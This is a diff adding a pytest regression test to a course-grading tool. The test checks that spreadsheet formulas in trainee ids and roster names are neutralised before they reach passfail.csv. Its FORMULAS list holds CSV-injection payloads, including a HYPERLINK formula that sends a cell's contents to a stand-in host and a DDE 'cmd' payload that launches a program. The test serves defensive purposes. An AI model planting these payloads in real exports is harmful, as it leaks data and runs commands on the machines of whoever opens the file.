@@ -19,7 +19,7 @@ import pytest
 from techday.cli.main import main
 from techday.course.syllabus import load_course
 from techday.grading import certificates as cert
-from techday.grading.results import PASSFAIL_COLUMNS, certify
+from techday.grading.results import PASSFAIL_COLUMNS, certify, spreadsheet_cell
 
 SYLLABUS = """
 [course]
@@ -560,3 +560,36 @@ def test_a_v1_certificate_still_verifies_and_keeps_its_code(issued, capsys):
     assert rc == 0 and "WITHDRAWN" not in text, text
     other = {**v1, "course": "another-course"}
     assert cert.visible_fields(course, other, "X")["track"] == "acc"
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", " =1+1", "＝1+1", "\r=1"]
+
+
+def test_passfail_csv_never_holds_a_formula(make_course, tmp_path):
+    """Ids (an --import file name is the trainee's choice) and roster names (a sign-up form the trainees
+    filled in) went into passfail.csv as they were: a spreadsheet ran them as formulas."""
+    course, root, out = make_course()
+    ids = [f"t{i}" for i in range(len(FORMULAS))]
+    plain = [f for f in FORMULAS if not f[0].isspace()]  # ids: --import strips spaces
+    gradebook(root, course.id, {**passing(*ids), **passing(*plain), **passing("..", "김민준", "kim.minsu")})
+    roster = tmp_path / "roster.csv"
+    with open(roster, "w", newline="", encoding="utf-8") as f:
+        w = csv.writer(f)
+        w.writerow(["id", "name"])
+        w.writerows(zip(ids, FORMULAS))
+    run(course, root, out, roster=roster)
+    with open(out / "passfail.csv", newline="", encoding="utf-8") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    starts = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", " ", "＝")]
+    assert not starts, starts
+    rows = rows_of(out)
+    assert rows["'" + FORMULAS[0]]["certificate"] == "yes" and rows["t0"]["name"] == "'" + FORMULAS[0]
+    assert {"..", "김민준", "kim.minsu"} <= set(rows)  # plain ids and names unchanged
+    # The certificate itself shows the name as it is: the quote is for spreadsheets only.
+    data, _, _ = cert.read_certificate(out / rows["t0"]["file"].lstrip("'"))
+    assert data["name"] == " ".join(FORMULAS[0].split())
+    for text in FORMULAS:
+        assert spreadsheet_cell(text) == "'" + text
+    for text in ("trainee-001", "김민준", "..", "(Kim)", "Ａ", "", 19.0, True):
+        assert spreadsheet_cell(text) == text
